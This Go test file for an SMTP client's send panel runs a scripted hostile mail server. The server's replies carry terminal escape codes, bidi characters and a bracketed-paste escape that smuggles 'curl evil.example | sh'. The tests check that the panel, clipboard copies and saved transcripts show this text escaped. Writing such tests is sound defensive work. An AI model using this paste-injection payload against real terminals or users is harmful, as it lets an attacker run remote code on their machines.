package ui

import (
	"bufio"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"fyne.io/fyne/v2/test"

	"stamp/smtpclient"
)

// hostileGreeting ends a terminal's bracketed paste and runs a command when
// pasted into a shell (D2).
const hostileGreeting = "220 \x1b[201~\rcurl evil.example | sh\r ESMTP"

// hostileServer is a scripted SMTP server on 127.0.0.1 whose every reply
// carries control and bidi characters. rcpt answers each RCPT TO by address;
// final is the reply to the message.
func hostileServer(t *testing.T, rcpt map[string]string, final string) smtpclient.Config {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go serveHostile(conn, rcpt, final)
		}
	}()
	addr := ln.Addr().(*net.TCPAddr)
	return smtpclient.Config{Host: "127.0.0.1", Port: addr.Port, Security: smtpclient.SecurityNone}
}

func serveHostile(conn net.Conn, rcpt map[string]string, final string) {
	defer conn.Close()
	r := bufio.NewReader(conn)
	say := func(s string) { conn.Write([]byte(s + "\r\n")) }
	say(hostileGreeting)
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			return
		}
		cmd := strings.ToUpper(strings.TrimRight(line, "\r\n"))
		switch {
		case strings.HasPrefix(cmd, "EHLO"):
			say("250-evil.example \u202egnp.exe")
			say("250-AUTH PLAIN \x1b[31mEVIL\u2066")
			say("250 8BITMIME")
		case strings.HasPrefix(cmd, "MAIL"):
			say("250 2.1.0 ok\x1b[2J")
		case strings.HasPrefix(cmd, "RCPT"):
			addr := strings.ToLower(strings.TrimSuffix(strings.TrimPrefix(strings.TrimRight(line, "\r\n")[len("RCPT TO:"):], "<"), ">"))
			reply, ok := rcpt[addr]
			if !ok {
				reply = "250 ok"
			}
			say(reply)
		case cmd == "DATA":
			say("354 go ahead\x07")
			for {
				l, err := r.ReadString('\n')
				if err != nil {
					return
				}
				if l == ".\r\n" {
					break
				}
			}
			say(final)
		case cmd == "QUIT":
			say("221 bye\x1b]0;pwned\x07")
			return
		default:
			say("250 ok")
		}
	}
}

// rawControl returns the first character of s that could act on a terminal
// or reorder text (C0 and C1 controls, DEL, bidi and other format
// characters), allowing the line breaks between rows when rows is true.
func rawControl(s string, rows bool) (rune, bool) {
	for _, r := range s {
		if rows && r == '\n' {
			continue
		}
		if r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x2028 || r == 0x2029 || unicode.Is(unicode.Cf, r) {
			return r, true
		}
	}
	return 0, false
}

func TestHostileServerTextNeverReachesThePanelRawAndTheCodeStillDecides(t *testing.T) {
	for _, tc := range []struct {
		name    string
		rcpt    map[string]string
		final   string
		outcome string
	}{
		{"a refused recipient", map[string]string{
			"ann@example.com": "250 2.1.5 ok \u202eevil\u202c",
			"bob@example.com": "550 5.1.1 \x1b[201~\rcurl evil.example | sh\r no such user",
		}, "250 ok", "Not sent: the server refused 1 of 2 recipients"},
		{"a hostile final reply", map[string]string{
			"ann@example.com": "250 ok\x1b[31m",
		}, "250 2.0.0 \x1b[2J queued as \u2066X1\u2069\x1b[201~\r", "Sent to 2 recipients."},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := test.NewTempApp(t)
			p := newSendPanel(a)
			p.OnRetry = func() {}
			finished := make(chan struct{})
			p.OnFinished = func(*smtpclient.Result, error) { close(finished) }
			cfg := hostileServer(t, tc.rcpt, tc.final)
			p.Start(sendJob{Config: cfg, Envelope: smtpclient.Envelope{From: "me@example.com", To: []string{"ann@example.com", "bob@example.com"}},
				Message: rawMessage("Subject: hi\r\n\r\nhello\r\n"), Title: "hi", Fields: map[string]string{"ann@example.com": "To", "bob@example.com": "Cc"}})
			waitRecv(t, finished, "the send")

			if !strings.HasPrefix(p.Outcome.Text, tc.outcome) {
				t.Fatalf("outcome = %q, want it to start %q", p.Outcome.Text, tc.outcome)
			}
			if r, bad := rawControl(p.Outcome.Text, false); bad {
				t.Errorf("the outcome holds a raw %U: %q", r, p.Outcome.Text)
			}
			for _, row := range p.recipients {
				if r, bad := rawControl(row.String(), false); bad {
					t.Errorf("a recipient row holds a raw %U: %q", r, row.String())
				}
			}
			shown := p.TranscriptText()
			if !strings.Contains(shown, `<- 220 \x1b[201~\x0dcurl evil.example | sh\x0d ESMTP`) {
				t.Errorf("the greeting is not shown with visible escapes:\n%s", shown)
			}
			for i := range p.Transcript.grid.Rows {
				if text := p.Transcript.grid.RowText(i); text == "" {
					t.Fatalf("transcript row %d shows no text", i)
				} else if r, bad := rawControl(text, false); bad {
					t.Errorf("transcript row %d holds a raw %U: %q", i, r, text)
				}
			}

			test.Tap(p.CopyButton)
			copied := a.Clipboard().Content()
			if copied != shown {
				t.Errorf("Copy transcript copied something else than the transcript:\n%q\nwant\n%q", copied, shown)
			}
			if r, bad := rawControl(copied, true); bad {
				t.Errorf("the copied transcript holds a raw %U", r)
			}

			path := filepath.Join(t.TempDir(), "transcript.txt")
			f, err := os.Create(path)
			if err != nil {
				t.Fatal(err)
			}
			if err := p.writeTranscript(f); err != nil {
				t.Fatal(err)
			}
			saved, _ := os.ReadFile(path)
			if string(saved) != shown {
				t.Errorf("the saved transcript differs from the one shown")
			}
			if r, bad := rawControl(string(saved), true); bad {
				t.Errorf("the saved transcript holds a raw %U", r)
			}
		})
	}
}

func TestHostileCapabilitiesInAConnectionTestAreShownEscaped(t *testing.T) {
	p := newSendPanel(test.NewTempApp(t))
	p.StartProbe(hostileServer(t, nil, ""), "Evil")
	waitFor(t, "the probe", func() bool { p.flush(); return p.done })
	if !strings.Contains(p.Outcome.Text, "Connection works.") || !strings.Contains(p.Outcome.Text, `\x1b[31MEVIL\u2066`) { // the engine upper-cases mechanism names
		t.Fatalf("outcome = %q, want the AUTH names with visible escapes", p.Outcome.Text)
	}
	if r, bad := rawControl(p.Outcome.Text, false); bad {
		t.Fatalf("the probe summary holds a raw %U: %q", r, p.Outcome.Text)
	}
}
